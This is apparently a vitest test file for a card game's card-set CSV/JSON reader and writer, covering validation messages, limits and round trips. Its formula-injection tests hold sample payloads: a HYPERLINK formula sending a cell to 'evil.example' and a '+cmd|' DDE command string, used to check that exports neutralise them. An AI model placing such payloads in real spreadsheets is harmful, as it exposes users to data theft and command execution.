import fc from 'fast-check'
import Papa from 'papaparse'
import { describe, expect, it } from 'vitest'
import {
  CARD_SET_LIMITS,
  readCardSetFile,
  setFileFormatOf,
  writeCardSetCsv,
  writeCardSetJson,
} from '../../../src-shared/game/user-card-files'
import { fakeSpec, unit, type FakeCard } from './fake-game'

const game = 'fake'
const read = (text: string) => readCardSetFile(fakeSpec, text, { game })
const HEADER = 'code,name,kind,power,star,text'
const problemsOf = (text: string) => {
  const result = read(text)
  if (result.ok) throw new Error('expected the file to be refused')
  return result.problems
}

describe('card set files: CSV', () => {
  it('reads a CSV set with its header in any order and case, comma or semicolon', () => {
    const text = 'Name;CODE;kind;power;star;text\nWolf;AB-001;unit;2;yes;Bites.\nFog;AB-002;spell;;no;"Draw; then discard."\n'
    expect(read(text)).toEqual({
      ok: true,
      format: 'csv',
      name: null,
      cards: [
        { code: 'AB-001', name: 'Wolf', kind: 'unit', power: 2, star: true, text: 'Bites.' },
        { code: 'AB-002', name: 'Fog', kind: 'spell', star: false, text: 'Draw; then discard.' },
      ],
    })
  })

  it('names the line and the column of every rejected row, and gives no card', () => {
    const text = `${HEADER}\nAB-001,Wolf,unit,2,no,\nAB-002,Fog,spel,,no,\n\nAB-003,Bear,unit,big,perhaps,\n`
    expect(problemsOf(text)).toEqual([
      { line: 3, field: 'kind', code: 'notOneOf', params: { value: 'spel', values: 'unit, spell, land' }, message: '"spel" is not one of unit, spell, land' },
      { line: 5, field: 'power', code: 'notWhole', params: { value: 'big' }, message: '"big" is not a whole number' },
      { line: 5, field: 'star', code: 'notFlag', params: { value: 'perhaps' }, message: '"perhaps" is not yes/no, 1/0 or true/false' },
    ])
  })

  it('counts lines inside a quoted cell that spans lines', () => {
    const text = `${HEADER}\nAB-001,Wolf,unit,2,no,"one\ntwo"\nAB-002,Fog,land,3,no,\n`
    expect(problemsOf(text)).toEqual([{ line: 4, field: 'power', code: 'onlyFor', params: { field: 'kind', values: 'unit' }, message: 'only for kind unit: leave it empty' }])
  })

  it('refuses a duplicate code, naming both lines', () => {
    const text = `${HEADER}\nAB-001,Wolf,unit,2,no,\nAB-001,Bear,unit,3,no,\n`
    expect(problemsOf(text)).toEqual([{ line: 3, field: 'code', code: 'duplicateKeyLine', params: { key: 'AB-001', line: 2 }, message: 'AB-001 is already the code of line 2' }])
  })

  it('refuses a header with a missing or unknown column', () => {
    expect(problemsOf('code,name,kind,power,star\nAB-001,Wolf,unit,2,no\n')[0]).toMatchObject({
      line: 1,
      code: 'missingColumns',
      params: { columns: 'text', header: HEADER },
      message: expect.stringContaining('missing columns: text'),
    })
    expect(problemsOf(`${HEADER},colour\n`)).toEqual([
      { line: 1, field: 'colour', code: 'unknownColumn', params: { columns: 'code, name, kind, power, star, text' }, message: expect.stringContaining('unknown column') },
    ])
  })

  it('refuses a row with the wrong number of fields', () => {
    expect(problemsOf(`${HEADER}\nAB-001,Wolf,unit,2,no,a,b\n`)).toEqual([
      { line: 2, code: 'wrongFieldCount', params: { count: 7, expected: 6 }, message: 'has 7 fields but the header has 6 (a comma inside an unquoted field?)' },
    ])
  })

  it('refuses an empty file and an unclosed quote, saying so', () => {
    expect(problemsOf('')[0]).toMatchObject({ code: 'csvEmpty', message: expect.stringContaining('empty') })
    expect(problemsOf(`${HEADER}\nAB-001,"Wolf,unit,2,no,\n`)[0]).toMatchObject({ code: 'unclosedQuote', message: expect.stringContaining('never closed') })
  })
})

describe('card set files: JSON', () => {
  const file = (cards: unknown[], extra: object = {}) => JSON.stringify({ deckLabCardSet: 1, game, name: 'Mine', cards, ...extra })

  it('reads a JSON set', () => {
    expect(read(file([unit('AB-001')]))).toEqual({ ok: true, format: 'json', name: 'Mine', cards: [unit('AB-001')] })
  })

  it('names the record and field of every problem', () => {
    const problems = problemsOf(file([unit('AB-001'), { ...unit('AB-002'), power: -1 }, { ...unit('AB-003'), extra: 1 }]))
    expect(problems.map((p) => [p.record, p.field, p.code])).toEqual([
      ['#2 AB-002', 'power', 'belowMin'],
      ['#3 AB-003', '(card)', 'unknownKeys'],
    ])
    expect(problems.map((p) => p.params)).toEqual([{ min: 0 }, { keys: 'extra' }])
  })

  it('refuses another game, another file kind, and a duplicate code', () => {
    expect(problemsOf(file([], { game: 'other' }))).toEqual([{ field: 'game', code: 'otherGame', params: { found: 'other', game: 'fake' }, message: 'the set is for "other", not fake' }])
    expect(problemsOf(JSON.stringify({ cards: [] }))[0]).toMatchObject({ field: 'deckLabCardSet', code: 'wrongVersion' })
    expect(problemsOf(file([unit('AB-001'), unit('AB-001')]))).toEqual([
      { record: '#2 AB-001', field: 'code', code: 'duplicateKeyRecord', params: { key: 'AB-001', record: '#1 AB-001' }, message: 'AB-001 is already the code of record #1 AB-001' },
    ])
  })

  it('says when it is not JSON at all', () => {
    expect(problemsOf('{ "deckLabCardSet": 1,')[0]).toMatchObject({ code: 'notJson', message: expect.stringMatching(/^not JSON/) })
  })
})

describe('card set files: limits', () => {
  it('refuses a file over the size limit before reading it', () => {
    const text = `${HEADER}\n${'x'.repeat(CARD_SET_LIMITS.maxFileChars)}`
    expect(problemsOf(text)).toEqual([
      { code: 'fileTooLong', params: { chars: text.length, max: CARD_SET_LIMITS.maxFileChars }, message: expect.stringContaining(`at most ${CARD_SET_LIMITS.maxFileChars}`) },
    ])
  })

  it('refuses more cards than a set holds', () => {
    const rows = Array.from({ length: CARD_SET_LIMITS.maxCards + 1 }, () => 'AB-001,Wolf,unit,2,no,').join('\n')
    expect(problemsOf(`${HEADER}\n${rows}`)).toEqual([
      {
        code: 'tooManyCards',
        params: { count: CARD_SET_LIMITS.maxCards + 1, max: CARD_SET_LIMITS.maxCards },
        message: `${CARD_SET_LIMITS.maxCards + 1} cards; a set may have at most ${CARD_SET_LIMITS.maxCards}`,
      },
    ])
  })

  it('refuses an over-long cell, naming it', () => {
    const long = 'a'.repeat(CARD_SET_LIMITS.maxCellChars + 1)
    expect(problemsOf(`${HEADER}\nAB-001,Wolf,unit,2,no,${long}\n`)).toEqual([
      { line: 2, field: 'text', code: 'cellTooLong', params: { max: CARD_SET_LIMITS.maxCellChars }, message: expect.stringContaining('longer than') },
    ])
  })

  it('reports at most maxProblems problems, and how many more', () => {
    const rows = Array.from({ length: CARD_SET_LIMITS.maxProblems + 5 }, (_, i) => `AB-${String(i).padStart(3, '0')},Wolf,unit,x,no,`).join('\n')
    const problems = problemsOf(`${HEADER}\n${rows}`)
    expect(problems).toHaveLength(CARD_SET_LIMITS.maxProblems + 1)
    expect(problems.at(-1)).toEqual({ code: 'moreProblems', params: { count: 5 }, message: 'and 5 more problems' })
  })
})

const cardArb: fc.Arbitrary<FakeCard> = fc
  .record({
    code: fc.tuple(fc.constantFrom('AB', 'XY', 'QQ'), fc.integer({ min: 0, max: 999 })).map(([p, n]) => `${p}-${String(n).padStart(3, '0')}`),
    name: fc.string({ minLength: 1, maxLength: 60 }).map((s) => s.trim()).filter((s) => s.length > 0),
    kind: fc.constantFrom('unit' as const, 'spell' as const, 'land' as const),
    power: fc.integer({ min: 0, max: 99 }),
    star: fc.boolean(),
    text: fc.string({ maxLength: 200, unit: fc.constantFrom('a', 'é', ' ', ',', ';', '"', '\n', '|', 'z', '=', '+', '-', '@', "'", '\t') }).map((s) => s.trim()),
  })
  .map(({ power, ...card }) => (card.kind === 'unit' ? { ...card, power } : card))
const setArb = fc.uniqueArray(cardArb, { selector: (c) => c.code, maxLength: 30 })

/** Every cell of a CSV text, read by Papa alone (not by the reader under test). */
const cellsOf = (csv: string) => Papa.parse<string[]>(csv, { skipEmptyLines: true }).data.flat()
const FORMULA_START = /^[=+\-@\t\r]/

describe('card set files: formula cells (issue 29.3, CSV injection)', () => {
  const names = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", '@SUM(1+1)', '-2+3', "'=already quoted", "''+two quotes", "'plain", 'Wolf']
  const cards: FakeCard[] = names.map((name, i) => ({ code: `AB-${String(i + 1).padStart(3, '0')}`, name, kind: 'spell', star: false, text: i % 2 ? '=1+1' : '\t@x' }))

  it('writes no cell a spreadsheet would run: each formula cell starts with a quote', () => {
    const csv = writeCardSetCsv(fakeSpec, cards)
    const cells = cellsOf(csv)
    expect(cells.filter((cell) => FORMULA_START.test(cell))).toEqual([])
    expect(cells).toContain('\'=HYPERLINK("http://evil.example/?"&A1,"click")')
    expect(cells).toContain("'+cmd|' /C calc'!A0")
    expect(cells).toContain("''=already quoted")
    expect(cells).toContain("'plain")
  })

  it('reads the export back unchanged, quotes written by the player included', () => {
    const csv = writeCardSetCsv(fakeSpec, cards)
    const back = read(csv)
    expect(back).toMatchObject({ ok: true })
    // The text cells are trimmed on reading, as any cell is: '\t@x' comes back as '@x'.
    expect(back.ok && back.cards.map((c) => [c.name, c.text])).toEqual(cards.map((c) => [c.name, c.text.trim()]))
  })
})

describe('card set files: round trip', () => {
  it('any set written as CSV reads back the same', () => {
    fc.assert(
      fc.property(setArb, (cards) => {
        const csv = writeCardSetCsv(fakeSpec, cards)
        expect(cellsOf(csv).filter((cell) => FORMULA_START.test(cell))).toEqual([])
        expect(read(csv)).toEqual({ ok: true, format: 'csv', name: null, cards })
      }),
    )
  })

  it('any set written as JSON reads back the same, with its name', () => {
    fc.assert(
      fc.property(setArb, fc.string({ maxLength: 80 }), (cards, name) => {
        expect(read(writeCardSetJson(game, name, cards))).toEqual({ ok: true, format: 'json', name, cards })
      }),
    )
  })

  it('tells JSON from CSV by the first character', () => {
    expect(setFileFormatOf('\uFEFF  {"a":1}')).toBe('json')
    expect(setFileFormatOf(HEADER)).toBe('csv')
  })
})
